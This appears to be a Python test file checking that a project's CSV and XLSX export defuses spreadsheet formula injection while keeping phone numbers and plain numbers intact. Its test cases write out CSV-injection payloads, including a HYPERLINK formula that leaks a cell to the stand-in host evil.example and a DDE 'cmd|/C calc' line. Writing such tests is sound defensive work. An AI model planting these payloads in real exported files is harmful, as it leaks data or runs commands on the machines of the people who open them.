"""Cells we write in CSV and XLSX never run as formulas in a spreadsheet, and keep their data true."""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from allervers.common.spreadsheets import (
    FORMULA_STARTS,
    append_row,
    csv_text,
    is_formula_like,
    restore_csv_value,
    safe_csv_value,
)

PHONE_OR_NUMBER = re.compile(r"\+?[0-9 .()-]*[0-9][0-9 .()-]*|[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
ILLEGAL_IN_XLSX = re.compile(r"[\000-\010\013\014\016-\037]")

# Texts that start with what a spreadsheet reads as a formula, quotes in front of them, phones and numbers.
texts = st.one_of(
    st.text(),
    st.builds(lambda start, rest: start + rest, st.sampled_from([*FORMULA_STARTS, "'", "''", "'="]), st.text()),
    st.from_regex(r"\+?[0-9 .()-]{0,12}[0-9][0-9 .()-]{0,12}", fullmatch=True),
    st.floats(allow_nan=False, allow_infinity=False).map(str),
)


@pytest.mark.parametrize(
    "text,written",
    [
        ("=1+2", "'=1+2"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("@cmd", "'@cmd"),
        ("-2+3", "'-2+3"),
        ('=HYPERLINK("http://evil.example/?leak="&D2,"Voir")', '\'=HYPERLINK("http://evil.example/?leak="&D2,"Voir")'),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("'=1+2", "''=1+2"),
        ("+33 4 74 00 00 00", "+33 4 74 00 00 00"),
        ("-12.5", "-12.5"),
        ("-1.5e-05", "-1.5e-05"),
        ("04 74 00 00 00", "04 74 00 00 00"),
        ("(0)4 74 00 00 00", "(0)4 74 00 00 00"),
        ("Association fictive", "Association fictive"),
        ("l'association", "l'association"),
        ("'t Hof", "'t Hof"),
        ("", ""),
    ],
)
def test_it_quotes_what_a_spreadsheet_would_run_and_nothing_else(text, written):
    assert safe_csv_value(text) == written
    assert restore_csv_value(written) == text


def test_numbers_and_empty_cells_are_left_as_they_are():
    assert safe_csv_value(-12.5) == -12.5 and safe_csv_value(-3) == -3 and safe_csv_value(None) is None


@given(texts)
def test_no_csv_cell_starts_like_a_formula_unless_it_is_a_phone_or_a_number(text):
    written = safe_csv_value(text)
    assert not written.startswith(FORMULA_STARTS) or (PHONE_OR_NUMBER.fullmatch(written) and written == text)


@given(texts)
def test_a_text_that_cannot_run_is_written_unchanged_and_any_text_is_restored(text):
    if not is_formula_like(text.lstrip("'")):
        assert safe_csv_value(text) == text
    assert restore_csv_value(safe_csv_value(text)) == text


@given(st.lists(st.tuples(texts, texts), max_size=5))
def test_a_whole_csv_file_reads_back_safe_and_restores_exactly(rows):
    text = csv_text(["a", "b"], [{"a": a, "b": b} for a, b in rows], delimiter=";")
    read = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert [(row["a"], row["b"]) for row in read] == [(safe_csv_value(a), safe_csv_value(b)) for a, b in rows]
    for row in read:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS) or PHONE_OR_NUMBER.fullmatch(cell)
            assert safe_csv_value(restore_csv_value(cell)) == cell


def test_the_csv_header_is_safe_too():
    assert csv_text(["=cmd", "nom"], []).splitlines() == ["'=cmd,nom"]


def _saved(values):
    workbook = Workbook()
    append_row(workbook.active, values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@settings(max_examples=40, deadline=None)
@given(st.lists(texts, min_size=1, max_size=4))
def test_every_xlsx_string_is_a_text_cell_with_its_exact_text(values):
    content = _saved(values)
    sheet = load_workbook(io.BytesIO(content)).active
    for column, value in enumerate(values, start=1):
        cell = sheet.cell(row=1, column=column)
        kept = ILLEGAL_IN_XLSX.sub("", value)
        assert cell.value == (kept or None)
        if kept:
            assert cell.data_type == "s"
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


def test_an_xlsx_formula_text_stays_text_and_numbers_stay_numbers():
    title = '=HYPERLINK("http://evil.example/?leak="&D2,"Voir")'
    sheet = load_workbook(io.BytesIO(_saved([title, "+33 4 74 00 00 00", "#N/A", 12, -12.5]))).active
    formula, phone, error, integer, number = sheet[1]
    assert (formula.value, formula.data_type, formula.quotePrefix) == (title, "s", True)
    assert (phone.value, phone.data_type) == ("+33 4 74 00 00 00", "s")
    assert (error.value, error.data_type) == ("#N/A", "s")
    assert (integer.value, integer.data_type, number.value, number.data_type) == (12, "n", -12.5, "n")
